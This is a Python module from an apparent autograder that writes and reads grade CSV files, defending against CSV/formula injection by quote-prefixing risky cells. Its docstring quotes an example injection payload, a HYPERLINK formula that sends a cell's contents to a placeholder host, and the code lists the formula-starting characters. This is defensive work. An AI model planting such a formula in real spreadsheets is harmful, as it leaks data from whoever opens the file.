"""Every CSV file the grader writes (grades.csv, gradescope_scores.csv),
written and read back through one pair of helpers.

Staff open these files in a spreadsheet, and a cell that starts with
``=``, ``+``, ``-`` or ``@`` (or tab or carriage return, which some
spreadsheets skip before such a character) is a formula there: a
submitter named ``=HYPERLINK("http://x?"&A2, "click")`` would run in the
instructor's gradebook. As OWASP recommends (CSV injection), every text cell
starting with one of those characters is prefixed with a single quote, and
``csv`` quotes every cell holding a separator or quote. A text cell that
itself starts with a quote gets one more, so :func:`read_rows` gives back
exactly the text written. Numbers are written as numbers (``f"{x:g}"``):
a score of -1 stays a number, a name ``-1`` does not. Text from outside
the grader (a path a grader typed, a file name a student chose) is made
one bounded line first (:func:`one_line`).
"""
from __future__ import annotations

import csv
import io
import unicodedata
from collections.abc import Iterable
from pathlib import Path

from autograder.files import atomic
from autograder.text.mdsafe import invisible, visible

# The characters that start a formula, and the quote that marks text.
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def cell(value: object) -> str:
    """One cell as written: a number as ``:g``, text neutralised."""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, (int, float)):
        return f"{value:g}"
    text = "" if value is None else str(value)
    if text.startswith(DANGEROUS) or text.startswith(QUOTE):
        return QUOTE + text
    return text


def one_line(text: str, limit: int) -> str:
    """``text`` as one line of at most ``limit`` characters (then
    ``...``): undecodable bytes (surrogate escapes) as U+FFFD, control
    and invisible characters written out (``<U+000A>``), so that a cell
    is one line in any tool and shows what it holds."""
    try:    # a path's undecodable bytes, as os.fsdecode escaped them
        text = text.encode("utf-8", "surrogateescape").decode(
            "utf-8", "replace")
    except UnicodeEncodeError:
        pass    # a lone surrogate of another origin: replaced below
    if len(text) > limit:
        text = text[:limit] + "..."
    return "".join(
        "\ufffd" if unicodedata.category(char) == "Cs" else
        visible(char) if unicodedata.category(char) == "Cc" or
        invisible(char) else char for char in text)


def uncell(text: str) -> str:
    """The text a cell written by :func:`cell` held."""
    return text[1:] if text.startswith(QUOTE) else text


def write_rows(path: Path | str, rows: Iterable[Iterable[object]]) -> None:
    """Write ``rows`` (header included) to ``path`` atomically
    (autograder/files/atomic.py), every cell through :func:`cell`."""
    text = io.StringIO(newline="")
    writer = csv.writer(text)
    for row in rows:
        writer.writerow([cell(value) for value in row])
    atomic.write_text(path, text.getvalue(), durable=True)


def read_rows(path: Path | str) -> list[list[str]]:
    """Every row of a CSV file written by :func:`write_rows`, as text."""
    # A user names OUT: only a regular file is opened (never a FIFO).
    from autograder.files.user_files import open_regular
    with io.TextIOWrapper(open_regular(path), newline="", encoding="utf-8",
                          errors="replace") as handle:
        return [[uncell(value) for value in row] for row in csv.reader(handle)]


def read_dicts(path: Path | str) -> tuple[list[str], list[dict[str, str]]]:
    """The header and the rows (as dicts) of a file from
    :func:`write_rows`."""
    rows = read_rows(path)
    if not rows:
        return [], []
    header = rows[0]
    return header, [dict(zip(header, row)) for row in rows[1:]]


__all__ = ["DANGEROUS", "cell", "one_line", "read_dicts", "read_rows",
           "uncell", "write_rows"]
